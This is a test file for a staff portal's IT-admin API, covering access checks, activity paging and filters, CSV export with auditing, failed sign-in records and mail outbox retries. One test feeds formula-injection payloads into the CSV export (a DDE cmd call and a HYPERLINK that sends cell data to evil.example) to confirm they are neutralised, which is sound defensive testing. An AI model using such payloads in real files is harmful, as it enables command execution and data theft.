import { count, eq } from 'drizzle-orm';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import * as admin from '@staff-portal/identity/admin';
import { identityOutbox } from '@staff-portal/identity/schema';
import type { ErrorBody } from '@staff-portal/shared/errors';
import type {
  ActivityPage,
  OutboxMessage,
  OutboxMessageDetail,
  OutboxPage,
  SystemStatus,
} from '@staff-portal/shared/it-admin';
import { auditEntries } from '../../db/schema/audit';
import { logEntries } from '../../db/schema/log';
import { createUser, PASSWORD } from '../../identity/identity-test-kit';
import { passwordVerifierResponses, srpEphemeral } from '../../identity/srp-client';
import { createTestApp, type TestContext } from '../../test/app';
import { startSmtpServer } from '../../test/smtp';

const IT = { sub: '11111111-1111-4111-8111-111111111111', groups: ['ITAdmin'], email: 'it@example.org' };

async function call(
  ctx: TestContext,
  who: { sub: string; groups: string[]; email?: string },
  method: 'GET' | 'POST',
  url: string,
) {
  return ctx.app.inject({
    method,
    url: `/api/it-admin${url}`,
    headers: { authorization: `Bearer ${await ctx.tokens.idToken(who)}` },
  });
}

/** `n` audit entries and `n` log entries, all at the same instants in pairs, so that paging must break ties. */
async function seedActivity(ctx: TestContext, n: number) {
  const at = (i: number) => new Date(Date.UTC(2026, 10, 1 + (i % 20), 9, 0, 0) + Math.floor(i / 20) * 1000);
  await ctx.database.db.insert(auditEntries).values(
    Array.from({ length: n }, (_, i) => ({
      at: at(i),
      actorId: i % 2 === 0 ? IT.sub : '22222222-2222-4222-8222-222222222222',
      actorEmail: i % 2 === 0 ? 'it@example.org' : 'hr.admin@example.org',
      area: i % 3 === 0 ? 'leave-admin' : 'access-control',
      action: i % 3 === 0 ? 'entitlement.set' : 'account.disable',
      target: `target-${i}`,
      targetLabel: `person${i}@example.org`,
      before: { enabled: true },
      after: { enabled: false, note: i === 7 ? 'kenari merbau' : 'plain' },
    })),
  );
  await ctx.database.db.insert(logEntries).values(
    Array.from({ length: n }, (_, i) => ({
      userId: IT.sub,
      action: i % 2 === 0 ? 'Login' : 'Logout',
      request: '',
      url: 'https://portal.example.org/',
      stream: 'login/logout',
      logDate: '2026-11-01T17:00:00.000Z',
      receivedAt: at(i),
    })),
  );
}

async function everyPage(ctx: TestContext, query: string) {
  const ids: string[] = [];
  let after: string | null = null;
  do {
    const suffix: string = after === null ? '' : `&after=${after}`;
    const answer = await call(ctx, IT, 'GET', `/activity?${query}${suffix}`);
    expect(answer.statusCode).toBe(200);
    const page = answer.json<ActivityPage>();
    ids.push(...page.items.map((e) => e.id));
    after = page.next;
  } while (after !== null);
  return ids;
}

describe('IT admin: who may call', () => {
  it('refuses every department but ITAdmin, HRAdmin included, on every endpoint', async () => {
    const ctx = await createTestApp();
    const endpoints: ['GET' | 'POST', string][] = [
      ['GET', '/activity'],
      ['GET', '/activity.csv'],
      ['GET', '/status'],
      ['GET', '/outbox'],
      ['GET', '/outbox/1'],
      ['POST', '/outbox/1/retry'],
    ];
    for (const [method, url] of endpoints) {
      expect((await ctx.app.inject({ method, url: `/api/it-admin${url}` })).statusCode).toBe(401);
      for (const department of ['HR', 'HRAdmin', 'IR', 'IRAdmin', 'UNION', 'CLUB', 'CREDIT_COOP', 'GS_COOP']) {
        const answer = await call(ctx, { sub: crypto.randomUUID(), groups: [department] }, method, url);
        expect(answer.statusCode, `${department} ${method} ${url}`).toBe(403);
      }
    }
    expect((await ctx.database.db.select({ n: count() }).from(auditEntries))[0]!.n).toBe(0);
  });
});

describe('IT admin: the activity explorer', () => {
  it('pages through both sources newest first, each entry once, ties broken', async () => {
    const ctx = await createTestApp();
    await seedActivity(ctx, 90);
    const ids = await everyPage(ctx, 'limit=7');
    expect(ids).toHaveLength(180);
    expect(new Set(ids).size).toBe(180);
    const first = (await call(ctx, IT, 'GET', '/activity?limit=4')).json<ActivityPage>().items;
    // At one instant: the sign-in entries before the changes.
    expect(first.map((e) => e.source)).toEqual(['log', 'audit', 'log', 'audit']);
    expect(first[0]!.at >= first[2]!.at).toBe(true);
  });

  it('filters by user, source, area, action, dates and free text', async () => {
    const ctx = await createTestApp();
    await seedActivity(ctx, 40);
    const ids = (query: string) => everyPage(ctx, query);
    expect((await ids(`user=22222222-2222-4222-8222-222222222222`)).length).toBe(20);
    // By e-mail: the audit entries keep it; the log entries are found through the identity provider.
    const pool = { UserPoolId: ctx.config.identity.userPoolId };
    const sub = await createUser(ctx.app, 'it@example.org');
    await ctx.database.db.update(logEntries).set({ userId: sub });
    const byEmail = await ids('user=IT@exa');
    expect(byEmail.filter((id) => id.startsWith('audit:'))).toHaveLength(20);
    expect(byEmail.filter((id) => id.startsWith('log:'))).toHaveLength(40);
    await admin.adminDeleteUser(ctx.app.identity!.context, { ...pool, Username: sub });
    expect((await ids('source=log')).every((id) => id.startsWith('log:'))).toBe(true);
    expect(await ids('area=sign-in')).toHaveLength(40);
    expect(await ids('area=leave-admin')).toHaveLength(14);
    expect(await ids('action=Logout')).toHaveLength(20);
    expect(await ids('from=2026-11-02&to=2026-11-02')).toHaveLength(4);
    const text = (await call(ctx, IT, 'GET', '/activity?q=kenari')).json<ActivityPage>();
    expect(text.items.map((e) => e.targetLabel)).toEqual(['person7@example.org']);
    expect(text.items[0]).toMatchObject({
      before: { enabled: true },
      after: { enabled: false, note: 'kenari merbau' },
    });
  });

  it.each([
    ['a page token it did not hand out', '/activity?after=bm90LWEtY3Vyc29y'],
    ['an end before the start', '/activity?from=2026-11-05&to=2026-11-01'],
    ['a limit over 200', '/activity?limit=500'],
    ['an unknown source', '/activity?source=everything'],
    ['a date that is none', '/activity?from=2026-02-30'],
    ['an unknown outbox state', '/outbox?state=lost'],
  ])('refuses %s with 400', async (_name, url) => {
    const ctx = await createTestApp();
    const answer = await call(ctx, IT, 'GET', url);
    expect(answer.statusCode).toBe(400);
    expect(answer.json<ErrorBody>().code).toBe('VALIDATION_ERROR');
  });

  it('exports every matching entry as CSV', async () => {
    const ctx = await createTestApp();
    await seedActivity(ctx, 30);
    const answer = await call(ctx, IT, 'GET', '/activity.csv?source=audit&area=leave-admin');
    expect(answer.statusCode).toBe(200);
    expect(answer.headers['content-type']).toMatch(/^text\/csv/);
    expect(answer.headers['content-disposition']).toMatch(/activity\.csv/);
    const lines = answer.body.trim().split('\n');
    expect(lines[0]).toBe('at,source,userId,userEmail,area,action,target,targetLabel,before,after,details');
    expect(lines).toHaveLength(1 + 10);
    expect(lines[1]).toContain('leave-admin,entitlement.set');
    expect(lines[1]).toContain('"{""enabled"":true}"');
  });

  it('audits each export: who, the filters and how many rows (docs/product/files-mail-logs.md §2)', async () => {
    const ctx = await createTestApp();
    await seedActivity(ctx, 30);
    const answer = await call(ctx, IT, 'GET', '/activity.csv?source=audit&area=leave-admin&limit=5');
    expect(answer.statusCode).toBe(200);
    const trail = await ctx.database.db.select().from(auditEntries).where(eq(auditEntries.action, 'activity.export'));
    expect(trail).toMatchObject([
      {
        actorId: IT.sub,
        actorEmail: IT.email,
        area: 'it-admin',
        target: null,
        targetLabel: 'activity.csv',
        after: { filters: { source: 'audit', area: 'leave-admin' }, rows: 10, complete: true },
      },
    ]);
    // The next export finds the first one's entry.
    const again = await call(ctx, IT, 'GET', '/activity.csv?action=activity.export');
    expect(again.body.trim().split('\n')).toHaveLength(2);
  });

  it('writes no cell a spreadsheet would run as a formula (docs/product/files-mail-logs.md §4)', async () => {
    const ctx = await createTestApp();
    // Any signed-in user logs through the logging API; an HR admin titles a post.
    const staff = { sub: crypto.randomUUID(), groups: ['HR'], email: 'staff@example.org' };
    const logged = await ctx.app.inject({
      method: 'POST',
      url: '/api/log/',
      headers: { authorization: `Bearer ${await ctx.tokens.idToken(staff)}` },
      payload: {
        userId: staff.sub,
        action: "=cmd|' /C calc'!A0",
        request: '',
        url: '@SUM(1+1)',
        stream: '+stream',
        logDate: '2026-11-01T17:00:00.000Z',
      },
    });
    expect(logged.statusCode).toBe(201);
    const hrAdmin = { sub: crypto.randomUUID(), groups: ['HRAdmin'], email: '-hr@example.org' };
    const post = await ctx.app.inject({
      method: 'POST',
      url: '/api/posts/admin',
      headers: { authorization: `Bearer ${await ctx.tokens.idToken(hrAdmin)}` },
      payload: {
        kind: 'announcement',
        title: '=HYPERLINK("https://evil.example/?"&A1,"Click")',
        body: 'Hello.',
        audience: 'everyone',
        publishAt: new Date(Date.now() - 3_600_000).toISOString(),
      },
    });
    expect(post.statusCode).toBe(201);
    // The other first characters, as any audited name could start.
    await ctx.database.db.insert(auditEntries).values(
      ['+1+1', '-2+3', '@SUM(1)', '\t=1+1', '\r=1+1'].map((label) => ({
        actorId: IT.sub,
        actorEmail: '@it@example.org',
        area: 'staff-records',
        action: 'staff.update',
        target: label,
        targetLabel: label,
      })),
    );

    const answer = await call(ctx, IT, 'GET', '/activity.csv');
    expect(answer.statusCode).toBe(200);
    const rows = Papa.parse<string[]>(answer.body.replace(/^\uFEFF/, ''), { skipEmptyLines: true }).data;
    const cells = rows.slice(1).flat();
    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
    expect(cells).toEqual(
      expect.arrayContaining([
        "'=cmd|' /C calc'!A0",
        `'=HYPERLINK("https://evil.example/?"&A1,"Click")`,
        "'-hr@example.org",
        "'+1+1",
        "'-2+3",
        "'@SUM(1)",
        "'\t=1+1",
        "'\r=1+1",
        "'@it@example.org",
      ]),
    );
  });
});

describe('IT admin: who, on every entry, and the sign-ins that failed', () => {
  const SITI = { sub: '33333333-3333-4333-8333-333333333333', groups: ['HRAdmin'], email: 'siti@example.org' };

  /** A call of the identity endpoint, as the sign-in widget makes it. */
  const identityCall = async (ctx: TestContext, operation: string, body: object) =>
    ctx.app.inject({
      method: 'POST',
      url: '/identity/',
      headers: {
        'content-type': 'application/x-amz-json-1.1',
        'x-amz-target': `AWSCognitoIdentityProviderService.${operation}`,
      },
      payload: JSON.stringify(body),
    });

  it('shows the e-mail and name of whoever signed in or changed something, and finds sign-ins by e-mail', async () => {
    const ctx = await createTestApp();
    const token = await ctx.tokens.idToken(SITI, { name: 'Siti Aminah' });
    const signedIn = await ctx.app.inject({
      method: 'POST',
      url: '/api/log/',
      headers: { authorization: `Bearer ${token}` },
      payload: {
        userId: SITI.sub,
        action: 'Login',
        request: '',
        url: 'https://portal.example.org/',
        stream: 'login/logout',
        logDate: '2026-11-29T17:00:00.000Z',
      },
    });
    expect(signedIn.statusCode).toBe(201);
    await admin.createGroup(ctx.app.identity!.context, { UserPoolId: ctx.config.identity.userPoolId, GroupName: 'HR' });
    const created = await ctx.app.inject({
      method: 'POST',
      url: '/api/access-control/accounts',
      headers: { authorization: `Bearer ${token}` },
      payload: { email: 'new.colleague@example.org', name: 'New Colleague', departments: ['HR'] },
    });
    expect(created.statusCode).toBe(201);

    const { items } = (await call(ctx, IT, 'GET', '/activity')).json<ActivityPage>();
    expect(items.map((entry) => [entry.action, entry.userId, entry.userEmail, entry.userName])).toEqual([
      ['account.create', SITI.sub, 'siti@example.org', 'Siti Aminah'],
      ['Login', SITI.sub, 'siti@example.org', 'Siti Aminah'],
    ]);
    const found = (await call(ctx, IT, 'GET', '/activity?q=siti%40example')).json<ActivityPage>();
    expect(found.items.map((entry) => entry.action)).toEqual(['Login']);
    expect((await call(ctx, IT, 'GET', '/activity?q=Aminah')).json<ActivityPage>().items).toHaveLength(1);
  });

  it('records a wrong password and a disabled account, with who and why, and never what was typed', async () => {
    const ctx = await createTestApp();
    const identity = ctx.app.identity!.context;
    const pool = { UserPoolId: ctx.config.identity.userPoolId };
    const clientId = ctx.config.identity.clientId;
    const sub = await createUser(ctx.app, 'aisyah@example.org');
    const wrong = 'Wrong-Secret-2026!';
    const passwordSignIn = (username: string, password: string) =>
      identityCall(ctx, 'InitiateAuth', {
        ClientId: clientId,
        AuthFlow: 'USER_PASSWORD_AUTH',
        AuthParameters: { USERNAME: username, PASSWORD: password },
      });

    // A wrong password, typed with the e-mail in capitals, and one through SRP, as the widget signs in.
    expect((await passwordSignIn('AISYAH@example.org', wrong)).statusCode).toBe(400);
    const ephemeral = srpEphemeral();
    const started = await identityCall(ctx, 'InitiateAuth', {
      ClientId: clientId,
      AuthFlow: 'USER_SRP_AUTH',
      AuthParameters: { USERNAME: 'aisyah@example.org', SRP_A: ephemeral.AHex },
    });
    const challenge = started.json<{ ChallengeParameters: Record<string, string> }>().ChallengeParameters;
    const proof = passwordVerifierResponses({
      poolName: ctx.config.identity.userPoolId.split('_')[1]!,
      ephemeral,
      challenge,
      password: wrong,
    });
    const answered = await identityCall(ctx, 'RespondToAuthChallenge', {
      ClientId: clientId,
      ChallengeName: 'PASSWORD_VERIFIER',
      ChallengeResponses: proof,
    });
    expect(answered.json()).toMatchObject({ __type: 'NotAuthorizedException' });
    // No account: nothing to record (what was typed may be anything, a password included).
    expect((await passwordSignIn(wrong, wrong)).statusCode).toBe(400);
    // The right password of a disabled account.
    await admin.adminDisableUser(identity, { ...pool, Username: sub });
    expect((await passwordSignIn('aisyah@example.org', PASSWORD)).json()).toMatchObject({
      message: 'User is disabled.',
    });

    const answer = await call(ctx, IT, 'GET', '/activity?area=sign-in');
    const { items } = answer.json<ActivityPage>();
    expect(
      items.map((entry) => [entry.action, entry.userId, entry.userEmail, entry.userName, entry.details?.['reason']]),
    ).toEqual([
      ['LoginFailed', sub, 'aisyah@example.org', 'aisyah', 'disabled'],
      ['LoginFailed', sub, 'aisyah@example.org', 'aisyah', 'wrong-password'],
      ['LoginFailed', sub, 'aisyah@example.org', 'aisyah', 'wrong-password'],
    ]);
    expect(answer.body).not.toContain(wrong);
    expect(answer.body).not.toContain(PASSWORD);
    expect(answer.body).not.toContain('AISYAH');
    expect(
      (await call(ctx, IT, 'GET', '/activity?action=LoginFailed&q=aisyah')).json<ActivityPage>().items,
    ).toHaveLength(3);
  });
});

describe('IT admin: status and outbox', () => {
  it('reports the version, database, identity, mail, outbox and cache', async () => {
    const ctx = await createTestApp();
    const status = (await call(ctx, IT, 'GET', '/status')).json<SystemStatus>();
    expect(status).toMatchObject({
      database: { engine: ctx.database.engine, latestMigration: expect.stringMatching(/^\d{4}_/) as unknown },
      identity: { mode: 'embedded', userPoolId: ctx.config.identity.userPoolId },
      mail: { mode: 'outbox', lastDeliveryError: null },
      outbox: { waiting: 0, failed: 0 },
    });
    expect(status.database.migrations).toBeGreaterThanOrEqual(18);
    expect(status.database.sizeBytes).toBeGreaterThan(0);
    expect(status.version).not.toBe('0.0.0');
  });

  it('lists messages without their text; opening one shows it and is audited', async () => {
    const ctx = await createTestApp();
    await createUser(ctx.app, 'invitee@example.org', { forceChange: true });
    await admin.adminCreateUser(ctx.app.identity!.context, {
      UserPoolId: ctx.config.identity.userPoolId,
      Username: 'invitee@example.org',
      MessageAction: 'RESEND',
    });
    const page = (await call(ctx, IT, 'GET', '/outbox?recipient=INVITEE')).json<OutboxPage>();
    expect(page.items).toHaveLength(1);
    expect(page.items[0]).toMatchObject({ channel: 'EMAIL', recipient: 'invitee@example.org', state: 'kept' });
    expect(page.items[0]).not.toHaveProperty('body');
    expect((await ctx.database.db.select({ n: count() }).from(auditEntries))[0]!.n).toBe(0);
    const opened = (await call(ctx, IT, 'GET', `/outbox/${page.items[0]!.id}`)).json<OutboxMessageDetail>();
    expect(opened.body).toContain('invitee@example.org');
    const [entry] = await ctx.database.db.select().from(auditEntries);
    expect(entry).toMatchObject({
      actorId: IT.sub,
      area: 'it-admin',
      action: 'outbox.open',
      target: `outbox:${opened.id}`,
    });
    expect((await call(ctx, IT, 'GET', '/outbox/999999')).statusCode).toBe(404);
    // Embedded mode sends nothing: there is nothing to retry.
    const retry = await call(ctx, IT, 'POST', `/outbox/${opened.id}/retry`);
    expect(retry.statusCode).toBe(409);
  });

  it('sends a failed e-mail again now, with SMTP', async () => {
    const smtp = await startSmtpServer();
    const ctx = await createTestApp({ env: { SMTP_URL: smtp.url, MAIL_FROM: 'Portal <portal@example.org>' } });
    const [row] = await ctx.database.db
      .insert(identityOutbox)
      .values({
        channel: 'EMAIL',
        recipient: 'late@example.org',
        subject: 'Your leave was approved',
        body: 'Approved.',
        attempts: 1,
        deliveryError: 'connect ECONNREFUSED',
        nextAttemptAt: new Date(Date.now() + 3600_000),
      })
      .returning();
    expect((await call(ctx, IT, 'GET', '/outbox?state=failed')).json<OutboxPage>().items.map((m) => m.id)).toEqual([
      row!.id,
    ]);
    const answer = await call(ctx, IT, 'POST', `/outbox/${row!.id}/retry`);
    expect(answer.statusCode).toBe(200);
    expect(answer.json<OutboxMessage>()).toMatchObject({ state: 'delivered', attempts: 2, deliveryError: null });
    expect(smtp.received.map((m) => m.to)).toEqual([['late@example.org']]);
    const [after] = await ctx.database.db.select().from(identityOutbox).where(eq(identityOutbox.id, row!.id));
    expect(after!.deliveredAt).toBeInstanceOf(Date);
  });

  it('sends an e-mail once when two admins (or two replicas) retry it at once, and never one being sent', async () => {
    const smtp = await startSmtpServer();
    const ctx = await createTestApp({ env: { SMTP_URL: smtp.url, MAIL_FROM: 'Portal <portal@example.org>' } });
    const [failed, sending] = await ctx.database.db
      .insert(identityOutbox)
      .values([
        {
          channel: 'EMAIL',
          recipient: 'twice@example.org',
          subject: 'Your leave was approved',
          body: 'Approved.',
          attempts: 1,
          deliveryError: 'connect ECONNREFUSED',
          nextAttemptAt: new Date(Date.now() + 3600_000),
        },
        // A first attempt under way on another server: its lease runs, it has not failed.
        {
          channel: 'EMAIL',
          recipient: 'inflight@example.org',
          subject: 'Your leave was approved',
          body: 'Approved.',
          attempts: 1,
          nextAttemptAt: new Date(Date.now() + 15 * 60_000),
        },
      ])
      .returning();
    const answers = await Promise.all([
      call(ctx, IT, 'POST', `/outbox/${failed!.id}/retry`),
      call(ctx, IT, 'POST', `/outbox/${failed!.id}/retry`),
    ]);
    expect(answers.map((answer) => answer.statusCode).sort()).toEqual([200, 409]);
    expect(smtp.received.map((m) => m.to)).toEqual([['twice@example.org']]);

    const refused = await call(ctx, IT, 'POST', `/outbox/${sending!.id}/retry`);
    expect(refused.statusCode).toBe(409);
    expect(refused.json<{ message: string }>().message).toBe('This e-mail is being sent now: look again in a moment.');
    expect(smtp.received).toHaveLength(1);
  });
});
